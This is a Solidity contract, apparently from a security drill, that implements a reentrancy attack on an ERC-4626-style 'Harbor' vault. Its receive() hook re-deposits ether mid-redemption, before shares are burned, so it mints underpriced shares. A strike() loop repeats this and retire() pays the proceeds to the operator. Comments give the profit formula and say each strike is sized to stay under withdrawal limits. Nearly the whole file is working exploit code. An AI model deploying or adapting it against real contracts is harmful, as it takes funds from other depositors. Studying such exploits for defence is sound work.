// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IHarborVault} from "./IHarborVault.sol";

/// @title The drill's attack on the Harbor vault.
/// @notice The vault pays a redemption before it burns the shares. Ether that goes back in at that moment meets assets
/// that are already gone but a supply that is still whole, so its shares are too cheap.
/// @dev With a stake of x beside b of other people's ether, one cycle gains b * x^2 / (b^2 + b * x + x^2).
/// A strike takes a bite small enough to pass under the usual limits on a single withdrawal.
contract HarborDrain {
    IHarborVault private immutable _vault;
    address private immutable _operator;
    bool private _restaking;

    error NotTheOperator();

    error NoProfit();

    /// @dev The attached ether is the stake that every strike works with.
    constructor(IHarborVault vault) payable {
        _vault = vault;
        _operator = msg.sender;
    }

    modifier onlyOperator() {
        if (msg.sender != _operator) {
            revert NotTheOperator();
        }
        _;
    }

    receive() external payable {
        if (_restaking) {
            _restaking = false;
            _vault.deposit{value: msg.value}(address(this));
        }
    }

    /// @notice Deposits `stake`, turns it over `cycles` times within its own redemption, and cashes in.
    /// @return profit What this strike took from the other depositors, in wei.
    function strike(uint256 stake, uint256 cycles) external onlyOperator returns (uint256 profit) {
        uint256 before = address(this).balance;

        _vault.deposit{value: stake}(address(this));
        for (uint256 i = 0; i < cycles; i++) {
            _restaking = true;
            _redeemAll();
        }
        _redeemAll();

        if (address(this).balance <= before) {
            revert NoProfit();
        }
        return address(this).balance - before;
    }

    /// @notice Hands everything to the operator.
    function retire() external onlyOperator {
        (bool paid, ) = _operator.call{value: address(this).balance}("");
        require(paid);
    }

    function _redeemAll() private {
        _vault.redeem(_vault.balanceOf(address(this)), address(this), address(this));
    }
}
